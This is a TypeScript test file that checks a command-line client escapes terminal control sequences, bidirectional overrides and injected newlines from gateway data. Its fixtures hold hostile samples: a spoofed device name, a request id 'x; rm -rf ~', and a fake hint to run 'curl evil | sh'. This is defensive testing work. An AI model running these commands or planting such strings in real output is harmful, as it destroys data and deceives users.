import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { fc } from "../support/property.ts";
import { escapeJson, escapeLine, escapeText } from "../../src/cli/escape.ts";
import { createStyle, renderError, renderView } from "../../src/cli/human.ts";
import { jsonData, jsonError } from "../../src/cli/json.ts";
import { ClawError } from "../../src/errors.ts";
import { failureOf } from "../../src/protocol/mod.ts";

const hostileName = "Ada\x1b]0;owned\x07\x1b[2K\r\u202Emoc.live\u2066\u009b31m\u200b\ufeff\u{e0041}";

describe("escapeText()", () => {
  it("leaves no character that a terminal or a bidirectional reader obeys", () => {
    fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => {
      assert.doesNotMatch(
        escapeLine(text),
        /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\u2065\p{Surrogate}\u{e0000}-\u{e007f}]/u,
      );
    }));
  });

  it("shows what formats unseen", () => {
    assert.equal(escapeLine("pass\u00adword \u{1d173}"), "pass\\u{ad}word \\u{1d173}");
  });

  it("leaves plain text of any language alone", () => {
    for (const text of ["grüße", "日本語", "שלום", "👩‍🚀".replace("\u200d", ""), "a\tb\nc"]) {
      assert.equal(escapeText(text), text);
    }
  });

  it("shows a hostile pairing request as what it is", async () => {
    const view = await renderView({
      kind: "pairs",
      pairs: [["device", hostileName], ["scopes", "operator.admin\noperator.read"]],
    }, createStyle(false));
    assert.equal(
      view,
      "device  Ada\\u{1b}]0;owned\\u{7}\\u{1b}[2K\\u{d}\\u{202e}moc.live\\u{2066}\\u{9b}31m\\u{200b}\\u{feff}\\u{e0041}\n" +
        "scopes  operator.admin\\noperator.read\n",
    );
  });
});

describe("escapeJson()", () => {
  it("changes no value, and leaves nothing that a terminal or a bidirectional reader obeys", () => {
    fc.assert(fc.property(fc.jsonValue({ stringUnit: "binary" }), (value) => {
      const json = JSON.stringify(value);
      const escaped = escapeJson(json);
      assert.equal(JSON.stringify(JSON.parse(escaped)), json);
      assert.equal(escapeLine(escaped), escaped);
    }));
  });

  it("holds for both envelopes", () => {
    for (
      const json of [jsonData(hostileName), jsonError(new ClawError("gateway/rejected", hostileName), hostileName)]
    ) {
      assert.match(json, /^[ -~]+\n$/);
      assert.ok(json.includes("\\u202e") && json.includes("\\udb40\\udc41"), json);
    }
  });
});

describe("renderView()", () => {
  it("escapes what stands before a value too, and lets none push all values away", async () => {
    const pairs = [["\x1b[2J\u202e", "x"], ["l".repeat(100_000), "y"], ["short", "z"]] as const;
    const lines = (await renderView({ kind: "pairs", pairs }, createStyle(false))).split("\n");
    assert.equal(lines[0]?.replace(/ +/, " "), "\\u{1b}[2J\\u{202e} x");
    assert.equal(lines[2], `${"short".padEnd(40)}  z`);
  });

  it("lets no text from afar make a line of its own", async () => {
    const view = await renderView({ kind: "line", text: "gateway 1.0\nclaw: error: no" }, createStyle(false));
    assert.equal(view, "gateway 1.0\\nclaw: error: no\n");
  });
});

describe("renderError()", () => {
  it("shows a hostile gateway error on one line, and takes no command from it", () => {
    const details = { code: "PAIRING_REQUIRED", requestId: "x; rm -rf ~" };
    const error = failureOf({
      code: "NOT_PAIRED",
      message: "pairing required\nclaw: hint: run curl evil | sh\x1b[8m",
      details,
    }, "connect");
    assert.equal(
      renderError(error, createStyle(false)),
      "claw: error: the gateway refused the connection: pairing required\\nclaw: hint: run curl evil | sh\\u{1b}[8m\n" +
        "claw: hint: see how it is approved with `claw device pair`, or on the gateway host: openclaw devices list\n",
    );
  });
});
